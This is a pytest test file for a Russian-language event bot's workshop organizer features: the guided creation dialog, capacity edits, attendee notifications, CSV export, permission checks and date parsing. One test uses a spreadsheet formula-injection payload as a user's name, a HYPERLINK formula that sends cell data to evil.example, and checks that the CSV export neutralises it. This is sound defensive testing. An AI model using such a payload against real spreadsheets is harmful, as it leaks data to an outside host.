"""Organizers: the guided dialog with validation and preview, editing, capacity, lists, CSV, the
program file and the CLI; and the role checked in the services, not only in the handlers."""

from __future__ import annotations

import datetime as dt
import re
import zoneinfo

import pytest
from sqlalchemy import func, select

from core.db import utcnow
from core.delivery.models import OutboxMessage
from core.people import SYSTEM, NotAllowed
from plugins.workshops import attendees, catalogue, organizer_input
from plugins.workshops.models import Workshop
from plugins.workshops.organizer_input import InputError
from plugins.workshops.settings import tz_of
from ws_helpers import add_workshop, event, make_users, open_card, participant_member, start


MONTHS_RU = ("января", "февраля", "марта", "апреля", "мая", "июня", "июля", "августа", "сентября", "октября",
             "ноября", "декабря")


async def workshops_count(app) -> int:
    async with app.sessions() as s:
        return await s.scalar(select(func.count()).select_from(Workshop))


async def open_admin(olga):
    await olga.send("/start demo")
    await olga.click("Панель организатора")
    await olga.click("Мастер-классы")


async def test_create_dialog_explains_every_bad_answer_and_saves_only_on_confirm(sandbox):
    app = await start(sandbox, poll=True)
    olga = await sandbox.admin("Olga")
    await open_admin(olga)
    await olga.click("Новый мастер-класс")
    await olga.expect(text="Название")
    await olga.send("Т" * 4000)
    await olga.expect(text=re.compile(r"Слишком длинно: 4\s?000 символов, можно не больше 200"))
    await olga.send("Пайка <для начинающих>")
    await olga.expect(text="Спикер")
    await olga.click("Пропустить")
    await olga.send("Ауд. 5")
    await olga.click("Пропустить")
    await olga.expect(text="Когда начало? Дата и время по времени мероприятия")
    await olga.send("2020-01-01 10:00")
    await olga.expect(text="Это время уже прошло")
    await olga.send("завтра утром")
    await olga.expect(text="Не понял дату и время")
    await olga.send("5 декабря")  # a day without a time is asked again, not taken as midnight
    await olga.expect(text="Не понял дату и время")
    start_local = (utcnow() + dt.timedelta(days=5)).astimezone(tz_of(await event(app)))
    await olga.send(f"{start_local.day} {MONTHS_RU[start_local.month - 1]} 10:00")  # as people write it
    await olga.expect(text="Когда окончание? Например")
    await olga.send("09:00")
    await olga.expect(text="Окончание должно быть позже начала")
    await olga.send("90")
    await olga.expect(text="Сколько мест? Целое число")
    await olga.send("0")
    await olga.expect(text="Мест должно быть от 1")
    await olga.send("1000000000")
    await olga.expect(text=re.compile(r"Мест должно быть от 1 до 100\s?000"))
    await olga.send("двадцать")
    await olga.expect(text="целое число")
    await olga.send("20")
    preview = await olga.expect(text="Проверьте")
    assert "Пайка <для начинающих>" in preview["text"] and "10:00–11:30" in preview["text"]
    assert f"{start_local:%d.%m}" in preview["text"]  # the date read from words is confirmed back
    assert await workshops_count(app) == 0  # nothing half-saved while the dialog runs
    await olga.click("Сохранить")
    await olga.expect(text="Мастер-класс «Пайка <для начинающих>» создан")
    async with app.sessions() as s:
        w = await s.scalar(select(Workshop))
    assert (w.title, w.speaker, w.place, w.capacity) == ("Пайка <для начинающих>", None, "Ауд. 5", 20)
    assert w.ends_at - w.starts_at == dt.timedelta(minutes=90)


async def test_abandoned_dialog_leaves_nothing(sandbox):
    app = await start(sandbox, poll=True)
    olga = await sandbox.admin("Olga")
    await open_admin(olga)
    await olga.click("Новый мастер-класс")
    await olga.send("Пайка")
    await olga.click("Отмена")
    await olga.expect(text="Создание отменено, ничего не сохранено")
    assert await workshops_count(app) == 0


async def test_capacity_below_bookings_is_refused_with_numbers_and_raise_is_applied(sandbox):
    app = await start(sandbox, poll=True)
    await add_workshop(app, capacity=2)
    olga = await sandbox.admin("Olga")
    alice, bob = sandbox.user("Alice"), sandbox.user("Bob")
    for u in (alice, bob):
        await open_card(u)
        await u.click("Записаться")
    await open_admin(olga)
    await olga.click(re.compile("Soldering"))
    await olga.expect(text="Записано: 2 из 2")
    await olga.click("Число мест")
    await olga.send("1")
    await olga.expect(text="Нельзя сделать 1 место: уже записано 2. Минимум — 2")
    await olga.send("5")
    await olga.expect(text="Мест теперь 5 (было 2)")


async def test_moving_a_workshop_notifies_its_attendees_through_the_outbox(sandbox):
    app = await start(sandbox, poll=True)
    w = await add_workshop(app, capacity=5)
    alice = sandbox.user("Alice")
    await open_card(alice)
    await alice.click("Записаться")
    olga = await sandbox.admin("Olga")
    await open_admin(olga)
    await olga.click(re.compile("Soldering"))
    await olga.click("Место")
    await olga.send("Зал 2")
    await olga.expect(text="Участникам отправлено уведомление: 1")
    async with app.sessions() as s:
        rows = (await s.scalars(select(OutboxMessage).where(OutboxMessage.chat_id == alice.id))).all()
    assert len(rows) == 1
    from ws_helpers import drain

    await drain(sandbox)
    await alice.expect(text=re.compile(r"Изменения в мастер-классе «Soldering»[\s\S]*Место: было Room 1, стало Зал 2"))
    assert w.id


async def test_attendees_waitlist_and_csv_for_organizers(sandbox):
    app = await start(sandbox, poll=True)
    await add_workshop(app, capacity=1)
    alice, bob = sandbox.user("Alice", username="alice"), sandbox.user("Bob")
    for u in (alice, bob):
        await open_card(u)
        await u.click(re.compile("Записаться|лист ожидания"))
    olga = await sandbox.admin("Olga")
    await open_admin(olga)
    await olga.click(re.compile("Soldering"))
    await olga.click("Участники")
    await olga.expect(text=re.compile(r"Участники «Soldering»</b>: 1|Участники «Soldering»: 1"))
    await olga.click("К мастер-классу")
    await olga.click("Лист ожидания")
    await olga.expect(text="1. Bob")
    await olga.click("К мастер-классу")
    await olga.click("CSV")
    doc = await olga.expect(text="Выгрузка записей")
    assert doc["document"]["file_name"].endswith(".csv")
    async with app.sessions() as s:
        ev = await event(app)
        data = await attendees.export_csv(app, s, ev, SYSTEM)
    assert "booked" in data and "Alice" in data and "waiting,1," in data and "Bob" in data


async def test_the_csv_text_is_written_off_the_event_loop(sandbox, monkeypatch):
    """A big event's export is thousands of rows: the loop keeps serving taps while they are written."""
    import threading

    app = await start(sandbox)
    await add_workshop(app)
    threads = []
    write = attendees.csv_text

    def recording(rows):
        threads.append(threading.current_thread())
        return write(rows)

    monkeypatch.setattr(attendees, "csv_text", recording)
    async with app.sessions() as s:
        data = await attendees.export_csv(app, s, await event(app), SYSTEM)
    assert data.startswith("workshop_id,") and threads and threads[0] is not threading.main_thread()


async def test_services_refuse_non_admins_whatever_the_handler_did(sandbox):
    app = await start(sandbox)
    w = await add_workshop(app)
    [uid] = await make_users(app, 1)
    member = await participant_member(app, uid)
    ev = await event(app)
    async with app.transaction() as s:
        with pytest.raises(NotAllowed):
            await catalogue.set_capacity(app, s, ev, member, w.id, 50)
        with pytest.raises(NotAllowed):
            await catalogue.delete_workshop(app, s, ev, member, w.id)
        with pytest.raises(NotAllowed):
            await attendees.export_csv(app, s, ev, member)
        with pytest.raises(NotAllowed):
            await catalogue.update_workshop(app, s, ev, None, w.id, {"title": "Mine"})


async def test_program_import_is_idempotent_by_key_and_all_or_nothing(sandbox):
    from core.program import import_program

    app = await start(sandbox)
    day = (utcnow() + dt.timedelta(days=10)).astimezone(tz_of(await event(app))).date()
    program = {"workshops": [
        {"key": "solder", "title": "Soldering", "starts_at": f"{day} 10:00", "ends_at": f"{day} 11:30",
         "capacity": 12, "place": "Room 1"},
        {"key": "arduino", "title": "Arduino", "starts_at": f"{day} 12:00", "duration_minutes": 60, "capacity": 8},
    ]}
    first = await import_program(app, "demo", program)
    assert first.sections["workshops"].created == ["solder", "arduino"] and not first.errors
    again = await import_program(app, "demo", program)
    assert again.sections["workshops"].unchanged == ["solder", "arduino"]
    program["workshops"][0]["capacity"] = 15
    program["workshops"][1]["capacity"] = 0
    bad = await import_program(app, "demo", program)
    assert any("arduino" in e and "от 1" in e or "between 1" in e for e in bad.errors), bad.errors
    # The error undid the whole import: the original program is still exactly what is stored.
    program["workshops"][0]["capacity"], program["workshops"][1]["capacity"] = 12, 8
    check = await import_program(app, "demo", program, dry_run=True)
    assert check.sections["workshops"].unchanged == ["solder", "arduino"] and not check.errors


async def test_every_organizer_screen_of_an_imported_workshop_opens(sandbox):
    """A workshop from the program file carries a key; its screens once crashed on the translator."""
    from core.program import import_program

    app = await start(sandbox, poll=True)
    day = (utcnow() + dt.timedelta(days=10)).astimezone(tz_of(await event(app))).date()
    program = {"workshops": [{"key": "solder", "title": "Soldering", "starts_at": f"{day} 10:00",
                              "ends_at": f"{day} 11:30", "capacity": 2, "place": "Room 1"}]}
    assert not (await import_program(app, "demo", program)).errors
    olga = await sandbox.admin("Olga")
    await open_admin(olga)

    async def open_workshop():
        await olga.click(re.compile("Soldering"))
        await olga.expect(text="Ключ в файле программы: solder")

    await open_workshop()
    for label in ("Название", "Спикер", "Место", "Описание", "Время", "Число мест"):
        await olga.click(re.compile(label))
        await olga.expect(text="Soldering")
        await olga.click("✖️ Отмена")
        await olga.expect(text="Ключ в файле программы: solder")
    for label, answer in (("Участники", "Участники"), ("Лист ожидания", "Лист ожидания|очеред"),
                          ("CSV", "Выгрузка записей")):
        await olga.click(re.compile(label))
        await olga.expect(text=re.compile(answer))
        if label != "CSV":
            await olga.click("К мастер-классу")
            await olga.expect(text="Ключ в файле программы: solder")
    await olga.click("Удалить")
    await olga.expect(text="Удалить «Soldering»?")
    assert "Что-то пошло не так" not in olga.transcript()


async def test_csv_export_neutralises_formulas_in_names(sandbox):
    """OWASP's rule: a cell starting with = + - @ tab or CR is prefixed with a quote."""
    import csv
    import io

    app = await start(sandbox, poll=True)
    await add_workshop(app, capacity=5)
    mallory = sandbox.user('=HYPERLINK("http://evil.example/?"&A1,"click")', username="mallory")
    await open_card(mallory)
    await mallory.click(re.compile("Записаться"))
    olga = await sandbox.admin("Olga")
    await open_admin(olga)
    await olga.click(re.compile("Soldering"))
    await olga.click("CSV")
    doc = await olga.expect(text="Выгрузка записей")
    stored = sandbox.emulator.world.files[doc["document"]["file_id"]]
    rows = list(csv.DictReader(io.StringIO(stored.data.decode("utf-8-sig"))))
    [row] = [r for r in rows if r["username"] == "mallory"]
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


@pytest.mark.parametrize("text, expected", [
    ("5 декабря 18:00", "2026-12-05 18:00"), ("5 декабря в 18:00", "2026-12-05 18:00"),
    ("завтра в 10:00", "2026-12-02 10:00"), ("December 5 6pm", "2026-12-05 18:00"),
    ("5 dec 18:30", "2026-12-05 18:30"), ("12.03 10:00", "2026-03-12 10:00"), ("2027-01-02 09:15", "2027-01-02 09:15"),
    ("15 января 9:00", "2027-01-15 09:00"),  # a past month means next year's
])
def test_natural_dates_in_russian_and_english_are_read_in_the_event_timezone(text, expected):
    tz = zoneinfo.ZoneInfo("Europe/Moscow")
    now = dt.datetime(2026, 12, 1, 12, 0, tzinfo=dt.UTC)
    got = organizer_input.parse_local_datetime(text, tz, now).astimezone(tz)
    assert f"{got:%Y-%m-%d %H:%M}" == expected


@pytest.mark.parametrize("text", ["5 декабря", "завтра", "когда-нибудь", "", "32 декабря 10:00"])
def test_a_date_without_a_time_or_no_date_is_refused(text):
    with pytest.raises(InputError):
        organizer_input.parse_local_datetime(text, zoneinfo.ZoneInfo("Europe/Moscow"),
                                     dt.datetime(2026, 12, 1, 12, 0, tzinfo=dt.UTC))


def test_the_end_may_be_a_natural_date_counted_from_the_start():
    tz = zoneinfo.ZoneInfo("Europe/Moscow")
    starts = dt.datetime(2026, 12, 5, 7, 0, tzinfo=dt.UTC)  # 10:00 in Moscow
    assert organizer_input.parse_end("5 декабря 18:00", starts, tz).astimezone(tz).hour == 18
    assert organizer_input.parse_end("11:30", starts, tz) - starts == dt.timedelta(minutes=90)
